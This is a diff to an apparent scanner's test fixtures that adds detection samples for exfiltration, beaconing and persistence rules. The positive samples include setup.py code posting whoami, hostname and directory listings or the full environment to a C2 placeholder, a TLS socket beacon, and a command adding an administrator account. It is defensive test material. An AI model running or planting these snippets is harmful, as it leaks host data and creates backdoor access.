@@ -559,6 +559,105 @@ requests.get("{C2}", params={{"h": socket.gethostname(), "u": getpass.getuser(),
                              "d": os.getcwd()}})
 setup(name="x", version="99.0")
 """
+# Recon commands' output is the same facts: who, where, what is here, the environment.
+BEACON_COMMAND_OUTPUT = f"""\
+import os, urllib.parse, urllib.request
+from setuptools import setup
+who = os.popen("whoami").read()
+host = os.popen("hostname && uname -a").read()
+listing = os.popen("ls -la ../").read()
+data = urllib.parse.urlencode({{"who": who, "host": host, "ls": listing}}).encode()
+urllib.request.urlopen("{C2}", data=data)
+setup(name="x", version="99.0")
+"""
+ENV_COMMAND_OUTPUT = f"""\
+import subprocess, requests
+requests.post("{C2}", data=subprocess.check_output("env", shell=True))
+"""
+# A build step's output sent to the project's own service is no host fact.
+BUILD_COMMAND_OUTPUT = """\
+import subprocess, requests
+revision = subprocess.check_output(["git", "rev-parse", "HEAD"], text=True).strip()
+arch = subprocess.check_output(["uname", "-m"], text=True).strip()
+requests.post("https://builds.example.invalid/api", json={"rev": revision, "arch": arch})
+"""
+# Host facts written to a socket wrapped in TLS.
+BEACON_TLS_SOCKET = """\
+import getpass, socket, ssl
+context = ssl.create_default_context()
+raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+tls = context.wrap_socket(raw, server_hostname="c2.example.invalid")
+tls.connect(("c2.example.invalid", 443))
+tls.send(("GET /l?u=" + getpass.getuser() + " HTTP/1.1\\r\\n\\r\\n").encode())
+"""
+# A local function that sends what it is given, called with host facts on import.
+BEACON_THROUGH_HELPER = f"""\
+import getpass, platform, urllib.request
+
+def request(url, data=None, headers=None):
+    req = urllib.request.Request(url=url, data=data, headers=headers or {{}})
+    return urllib.request.urlopen(req, timeout=10).read()
+
+def init():
+    info = getpass.getuser() + "|" + platform.node()
+    request("{C2}?t=" + info)
+
+init()
+"""
+# A login helper: the registry password read from its own config, sent to that registry.
+LOGIN_HELPER = """\
+import base64, json, os, requests
+
+def login(username, password):
+    reply = requests.post("https://hub.example.invalid/v2/users/login",
+                          json={"username": username, "password": password})
+    return reply.json()["token"]
+
+def main():
+    with open(os.path.expanduser("~/.docker/config.json")) as f:
+        auth = json.load(f)["auths"]["https://hub.example.invalid"]["auth"]
+    username, password = base64.b64decode(auth).decode().split(":", 1)
+    return login(username, password)
+"""
+# A launcher that hands the child's environment to a helper polling the child's server.
+ENV_TO_POLLING_HELPER = """\
+import os, subprocess, httpx
+
+def wait_for_server(url, process, env=None):
+    if env:
+        print(" ".join(f"{k}={v}" for k, v in env.items()))
+    while httpx.get(url + "/v1/models").status_code != 200:
+        process.poll()
+
+def launch(command, env):
+    process = subprocess.Popen(command, env=env)
+    return process, 8000
+
+def start():
+    env = dict(os.environ)
+    process, port = launch(["server"], env=env)
+    wait_for_server(f"http://localhost:{port}", process, env=env)
+"""
+# The same helper, with host facts passed to what it does not send: a cache folder.
+HELPER_NOT_SENDING_IT = """\
+import os, urllib.request
+
+def fetch(url, folder):
+    data = urllib.request.urlopen(url).read()
+    with open(os.path.join(folder, "index.json"), "wb") as f:
+        f.write(data)
+
+fetch("https://index.example.invalid/index.json", os.getcwd())
+"""
+# A download helper whose file name is made of the working folder: the name stays here.
+DOWNLOAD_HELPER_TO_CWD = """\
+import os, urllib.request
+
+def download(url, path):
+    urllib.request.urlretrieve(url, path)
+
+download("https://models.example.invalid/vocab.txt", os.path.join(os.getcwd(), "vocab.txt"))
+"""
 BEACON_DNS = """\
 import socket, platform
 label = platform.node().replace(".", "-") + ".c2.example.invalid"
@@ -808,6 +907,15 @@ import subprocess
 subprocess.call('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run '
                 '/v updater /t REG_SZ /d "pythonw x.pyw" /f', shell=True)
 """
+ACCOUNT_ADD = """\
+import os
+os.system("net user support P4ssw0rd! /add && net localgroup administrators support /add")
+"""
+# Listing the accounts is no new account.
+ACCOUNT_LIST = """\
+import subprocess
+users = subprocess.check_output(["net", "user"], text=True)
+"""
 SHELL_SETUP_TOOL = """\
 import os
 
@@ -967,12 +1075,32 @@ FIXTURES_BEHAVIOR: dict[str, RuleFixtures] = {
         benign=[module(ENV_SUBPROCESS), module(ENV_ONE_KEY)],
     ),
     "env-exfiltration": RuleFixtures(
-        positive=[module(ENV_POST), module(ENV_B64_GET), module(ENV_ITEMS_LOOP)],
-        benign=[module(ENV_SUBPROCESS), module(ENV_ONE_KEY), module(SDK_CLIENT)],
+        positive=[
+            module(ENV_POST),
+            module(ENV_B64_GET),
+            module(ENV_ITEMS_LOOP),
+            module(ENV_COMMAND_OUTPUT),
+        ],
+        benign=[
+            module(ENV_SUBPROCESS),
+            module(ENV_ONE_KEY),
+            module(SDK_CLIENT),
+            module(ENV_TO_POLLING_HELPER),
+        ],
     ),
     "host-beacon": RuleFixtures(
-        positive=[setup_py(BEACON_SETUP), module(BEACON_DNS), module(BEACON_IMPORT_ENV_USER)],
+        positive=[
+            setup_py(BEACON_SETUP),
+            module(BEACON_DNS),
+            module(BEACON_IMPORT_ENV_USER),
+            setup_py(BEACON_COMMAND_OUTPUT),
+            module(BEACON_THROUGH_HELPER),
+            module(BEACON_TLS_SOCKET),
+        ],
         benign=[
+            module(BUILD_COMMAND_OUTPUT),
+            module(HELPER_NOT_SENDING_IT),
+            module(DOWNLOAD_HELPER_TO_CWD),
             module(LOCAL_IP),
             module(TELEMETRY_RUNTIME),
             module(SDK_CLIENT),
@@ -994,7 +1122,12 @@ FIXTURES_BEHAVIOR: dict[str, RuleFixtures] = {
     ),
     "credential-exfiltration": RuleFixtures(
         positive=[module(STEAL_SSH), module(STEAL_BROWSER)],
-        benign=[module(READ_SSH_KEY), module(AWS_SDK_LIKE), module(SDK_CLIENT)],
+        benign=[
+            module(READ_SSH_KEY),
+            module(AWS_SDK_LIKE),
+            module(SDK_CLIENT),
+            module(LOGIN_HELPER),
+        ],
     ),
     "credential-harvest": RuleFixtures(
         positive=[module(HARVEST)],
@@ -1063,8 +1196,18 @@ FIXTURES_BEHAVIOR: dict[str, RuleFixtures] = {
         benign=[module(AUDIO_TOOL), module(DECODE_EXEC_SHAPES["b64"])],
     ),
     "persistence-write": RuleFixtures(
-        positive=[module(SYSTEMD_UNIT), module(BASHRC_APPEND), module(RUN_KEY)],
-        benign=[module(SHELL_SETUP_TOOL), module(READ_BASHRC), module(COMPLETION_OPTION)],
+        positive=[
+            module(SYSTEMD_UNIT),
+            module(BASHRC_APPEND),
+            module(RUN_KEY),
+            module(ACCOUNT_ADD),
+        ],
+        benign=[
+            module(SHELL_SETUP_TOOL),
+            module(READ_BASHRC),
+            module(COMPLETION_OPTION),
+            module(ACCOUNT_LIST),
+        ],
     ),
     "persistence-write-runtime": RuleFixtures(
         positive=[module(SHELL_SETUP_TOOL), module(COMPLETION_OPTION)],
